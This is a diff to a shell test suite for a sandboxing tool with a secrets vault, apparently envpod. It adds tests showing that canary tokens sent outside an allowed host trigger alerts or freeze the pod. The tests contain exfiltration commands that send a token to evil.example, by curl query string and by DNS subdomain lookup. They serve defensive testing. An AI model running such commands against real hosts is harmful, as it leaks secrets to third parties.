@@ -9,7 +9,7 @@ setup_file()
 {
 	injected_setup
 	forms
-	net_pod web 'dns: {allow: ["api.example:443,8443", evil.example, twin.example, liar.example], upstream: [203.0.113.53]}'
+	net_pod web 'dns: {allow: ["api.example:80,443,8443", evil.example, twin.example, liar.example], upstream: [203.0.113.53]}'
 	injected_vault
 	bound api.example
 	bound liar.example
@@ -196,10 +196,10 @@ except (OSError, http.client.HTTPException) as e:
 }
 
 @test "way: a name that is removed, and comes back" {
-	on_host envpod dns web --remove-allow api.example:443,8443 || on_host envpod dns web --remove-allow api.example
+	on_host envpod dns web --remove-allow api.example:80,443,8443 || on_host envpod dns web --remove-allow api.example
 	refute bare curl -sS --max-time 5 https://api.example/way12
 	refute sent '.target == "/way12"'
-	on_host envpod dns web --allow api.example:443,8443
+	on_host envpod dns web --allow api.example:80,443,8443
 	bare curl -sS https://api.example/way12-after >/dev/null
 	sent '.target == "/way12-after"'
 }
@@ -215,6 +215,36 @@ except (OSError, http.client.HTTPException) as e:
 	wait_for 10 other
 	bare curl -sS https://api.example/killed >/dev/null
 	sent '.target == "/killed" and any(.headers[]; .[0] == "authorization")'
+}
+
+@test "a run has a dummy of the key; one that goes elsewhere is told, and to the host itself it is not" {
+	dummy=$(told printenv TOKEN)
+	[ "${#dummy}" -ge 16 ]
+	bare curl -sS "http://api.example/?q=$dummy" >/dev/null
+	bare curl -sS -H "Authorization: Bearer $dummy" https://api.example/dummy >/dev/null
+	refute sent 'any(.headers[]; .[0] == "authorization" and (.[1] | test("'"$dummy"'")))'
+	bare curl -sS "http://evil.example/?q=$dummy" >/dev/null
+	told_head() { event web '.event == "canary" and .key == "TOKEN" and .place == "head" and .name == "evil.example" and .action == "alert"'; }
+	wait_for 5 told_head
+	bare getent hosts "${dummy:0:40}.evil.example" || true
+	told_dns() { event web '.event == "canary" and .place == "dns" and (.name | endswith(".evil.example"))'; }
+	wait_for 5 told_dns
+	refute event web '.event == "canary" and .name == "api.example"'
+}
+
+@test "a pod file may say that a canary freezes the pod" {
+	printf 'network: {dns: {allow: [api.example, evil.example], upstream: [203.0.113.53]}}\nvault: {canary: freeze}\n' >"$T/trap.yaml"
+	envpod init -c "$T/trap.yaml" trap >/dev/null
+	envpod vault trap set TOKEN <"$T/secret"
+	on_host envpod vault trap bind TOKEN api.example
+	on_host envpod start trap -- sh -c 'curl -sS "http://evil.example/?q=$TOKEN"; while :; do sleep 1; done'
+	frozen() { [ "$(envpod status --json trap | jq -r .status)" = frozen ]; }
+	wait_for 15 frozen
+	event trap '.event == "canary" and .action == "freeze"'
+	event trap '.event == "freeze"'
+	envpod unlock trap
+	on_host envpod stop -t 1 trap
+	envpod destroy -f trap
 }
 
 @test "a vault that cannot be opened: 503, and nothing is sent" {
